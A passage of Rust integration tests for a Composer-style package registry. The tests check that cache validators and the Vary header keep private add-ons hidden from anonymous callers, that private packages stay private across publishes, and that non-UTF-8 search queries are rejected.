    let (lm_o, etag_o) = (header(&owner, "last-modified"), header(&owner, "etag"));
    assert_ne!(lm_a, lm_o, "Last-Modified differs between the two views");
    assert_ne!(etag_a, etag_o, "so does ETag");

    // Composer's sequence: cached anonymously, then asked again with credentials. The
    // owner gets the whole document, private add-on included, whichever validator it sends.
    for (name, value) in [("if-modified-since", &lm_a), ("if-none-match", &etag_a)] {
        let r = get_as(&app, "/packages.json", Some(&ta), &[(name, value)]).await;
        assert_eq!(r.status(), 200, "{name}");
        let repo: Value = r.json().await.unwrap();
        assert_eq!(
            repo["available-packages"],
            json!(["acme/open", "acme/secret"]),
            "{name}"
        );
    }
    // And the other way round: the owner's copy is not the anonymous document.
    let r = get_as(
        &app,
        "/packages.json",
        None,
        &[("if-modified-since", &lm_o)],
    )
    .await;
    assert_eq!(r.status(), 200);
    let repo: Value = r.json().await.unwrap();
    assert_eq!(repo["available-packages"], json!(["acme/open"]));
    // A date after the document's is no proof of holding it either.
    let later = "Fri, 01 Jan 2100 00:00:00 GMT";
    let r = get_as(
        &app,
        "/packages.json",
        None,
        &[("if-modified-since", later)],
    )
    .await;
    assert_eq!(r.status(), 200);

    // Each caller revalidates its own copy.
    for (token, lm, etag) in [(None, &lm_a, &etag_a), (Some(ta.as_str()), &lm_o, &etag_o)] {
        for (name, value) in [("if-modified-since", lm), ("if-none-match", etag)] {
            let r = get_as(&app, "/packages.json", token, &[(name, value)]).await;
            assert_eq!(r.status(), StatusCode::NOT_MODIFIED, "{token:?} {name}");
            assert_eq!(&header(&r, "last-modified"), lm);
            assert_eq!(&header(&r, "etag"), etag);
            assert_eq!(header(&r, "vary"), "Authorization");
        }
    }

    // A p2 file changes with every publish, even one in the same second as the last.
    let r = get_as(&app, "/p2/acme/open.json", None, &[]).await;
    let lm = header(&r, "last-modified");
    assert_eq!(header(&r, "vary"), "Authorization");
    app.publish_ok(&ta, "acme/open", "library", "1.1.0").await;
    let r = get_as(
        &app,
        "/p2/acme/open.json",
        None,
        &[("if-modified-since", &lm)],
    )
    .await;
    assert_eq!(r.status(), 200);
    assert_ne!(header(&r, "last-modified"), lm);
    let meta: Value = r.json().await.unwrap();
    assert_eq!(meta["packages"]["acme/open"][0]["version"], "1.1.0");
}

#[tokio::test]
async fn an_add_on_can_be_private_from_its_first_publish() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let bob = app.account("bob").await;
    let (ta, tb) = (app.access_token(&alice).await, app.access_token(&bob).await);

    // An anonymous caller watches every place the add-on could appear while it is
    // published; it must never see it.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let (http, base, stop) = (app.http.clone(), app.base.clone(), stop.clone());
        tokio::spawn(async move {
            let mut sightings = Vec::new();
            let mut rounds = 0;
            loop {
                let last = stop.load(std::sync::atomic::Ordering::SeqCst);
                for path in [
                    "/packages/acme/hidden",
                    "/packages/acme/hidden/versions/1.0.0/dist",
                    "/p2/acme/hidden.json",
                ] {
                    let status = http
                        .get(format!("{base}{path}"))
                        .send()
                        .await
                        .unwrap()
                        .status();
                    if status != 404 {
                        sightings.push(format!("{path}: {status}"));
                    }
                }
                let text = http
                    .get(format!("{base}/packages.json"))
                    .send()
                    .await
                    .unwrap()
                    .text()
                    .await
                    .unwrap();
                if text.contains("acme/hidden") {
                    sightings.push("packages.json".to_owned());
                }
                rounds += 1;
                if last {
                    return (sightings, rounds);
                }
            }
        })
    };
    let r = app
        .http
        .put(app.url("/packages/acme/hidden/versions/1.0.0?visibility=private"))
        .bearer_auth(&ta)
        .header("Content-Type", "application/zip")
        .body(dist("acme/hidden", "library"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    let (sightings, rounds) = watcher.await.unwrap();
    assert!(rounds >= 1);
    assert!(sightings.is_empty(), "{sightings:?}");

    for token in [None, Some(tb.as_str())] {
        assert!(
            app.json_as("/packages", token, 200)
                .await
                .as_array()
                .unwrap()
                .is_empty()
        );
        app.json_as("/packages/acme/hidden", token, 404).await;
        app.json_as("/p2/acme/hidden.json", token, 404).await;
        let repo = app.json_as("/packages.json", token, 200).await;
        assert_eq!(repo["available-packages"], json!([]));
    }
    let p = app.json_as("/packages/acme/hidden", Some(&ta), 200).await;
    assert_eq!(p["visibility"], "private");

    // Later publishes leave it private; asking for the other visibility does not change it
    // behind the owner's back, and an unknown one is refused.
    app.publish_ok(&ta, "acme/hidden", "library", "1.1.0").await;
    let put = |query: &'static str| {
        app.http
            .put(app.url(&format!("/packages/acme/hidden/versions/1.2.0{query}")))
            .bearer_auth(&ta)
            .header("Content-Type", "application/zip")
            .body(dist("acme/hidden", "library"))
            .send()
    };
    let r = put("?visibility=public").await.unwrap();
    let error = refusal(r, StatusCode::CONFLICT, "visibility_mismatch").await;
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .starts_with("acme/hidden is private; publishing does not change that"),
        "{error}"
    );
    for query in [
        "?visibility=hidden",
        "?visibility=private&visibility=public",
    ] {
        let fields = invalid_fields(put(query).await.unwrap()).await;
        assert!(fields.contains_key("visibility"), "{query}: {fields:?}");
    }
    let r = put("?visibility=private").await.unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    app.json_as("/p2/acme/hidden.json", None, 404).await;
}

#[tokio::test]
async fn a_search_that_is_not_utf8_is_400_not_a_lossy_search() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    app.publish_ok(&token, "acme/seo", "harmony-extension", "1.0.0")
        .await;
    let bad = app.json_as("/packages?q=%FF%FE", None, 400).await;
    assert_eq!(bad["error"]["code"], "invalid_query");
    assert_eq!(bad["error"]["status"], 400);
    let bad = app
        .json_as("/packages?type=library&q=se%E2%82", None, 400)
        .await;
    assert_eq!(bad["error"]["code"], "invalid_query");
    // Encoded UTF-8 is searched as before.
    let none = app.json_as("/packages?q=caf%C3%A9", None, 200).await;
    assert_eq!(none, serde_json::json!([]));
    let found = app.json_as("/packages?q=%73eo", None, 200).await;
    assert_eq!(found[0]["name"], "acme/seo");
}
